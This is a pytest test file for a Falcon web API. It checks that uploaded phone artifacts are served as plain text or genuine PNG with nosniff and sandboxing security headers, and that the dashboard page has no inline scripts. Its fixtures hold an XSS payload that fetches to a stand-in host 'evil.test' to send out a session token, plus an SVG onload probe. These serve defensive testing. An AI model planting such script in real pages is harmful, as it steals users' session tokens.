"""Every answer says nosniff and carries a Content-Security-Policy; a phone's artifact is served as
a PNG only when it is one, else as plain text, never as a document; the wall runs under its policy."""

from __future__ import annotations

import re
from types import SimpleNamespace

import falcon
import falcon.testing
import pytest

from api.rest import errors
from api.rest.middleware import SecurityHeaders, TokenGate
from api.rest.resources.artifacts import ArtifactStore, TaskArtifactFile
from api.rest.resources.wall import PAGE_DIR, WallPage

TOKEN = "t" * 20
XHTML = (b'<html xmlns="http://www.w3.org/1999/xhtml"><script>fetch("//evil.test/"+sessionStorage.getItem('
         b'"phonefarm-token"))</script></html>')


@pytest.fixture
def client(tmp_path):
    (tmp_path / "7").mkdir()
    (tmp_path / "7" / "hierarchy.xml").write_bytes(XHTML)
    (tmp_path / "7" / "screenshot.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 16)
    (tmp_path / "7" / "fake.png").write_bytes(b"<svg onload=alert(1)>")
    app = falcon.App(middleware=[SecurityHeaders(), TokenGate(TOKEN)])
    errors.install(app, SimpleNamespace())
    app.add_route("/", WallPage())
    app.add_static_route("/page", str(PAGE_DIR))
    tasks = SimpleNamespace(row=lambda task_id: None)
    app.add_route("/api/v1/task/{task_id:int}/artifacts/{name}", TaskArtifactFile(tasks, ArtifactStore(tmp_path)))
    return falcon.testing.TestClient(app, headers={"Authorization": f"Bearer {TOKEN}"})


@pytest.mark.parametrize("name, content_type", [
    ("hierarchy.xml", "text/plain; charset=utf-8"),
    ("fake.png", "text/plain; charset=utf-8"),
    ("screenshot.png", "image/png"),
])
def test_artifacts_are_never_documents(client, name, content_type):
    answer = client.simulate_get(f"/api/v1/task/7/artifacts/{name}")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == content_type
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer.headers["Content-Security-Policy"]


@pytest.mark.parametrize("path", ["/", "/page/farm.js", "/page/farm.css"])
def test_the_page_has_its_policy(client, path):
    answer = client.simulate_get(path, headers={"Authorization": ""})
    assert answer.status_code == 200
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy and "unsafe-inline" not in policy
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_refusals_carry_the_headers_too(client):
    answer = client.simulate_get("/api/v1/task/7/artifacts/hierarchy.xml", headers={"Authorization": "Bearer wrong"})
    assert answer.status_code == 401
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


def test_the_page_needs_nothing_inline():
    html = (PAGE_DIR / "farm.html").read_text()
    assert not re.search(r"<script(?![^>]*\bsrc=)", html), "an inline script"
    assert not re.search(r"<style|\sstyle=|\son[a-z]+=", html), "an inline style or handler"
    script = (PAGE_DIR / "farm.js").read_text()
    assert not re.search(r"\beval\(|new Function|innerHTML|setAttribute\(\s*[\"']style", script)
    assert 'window.open(url, "_blank", "noopener")' in script and "text/plain" in script
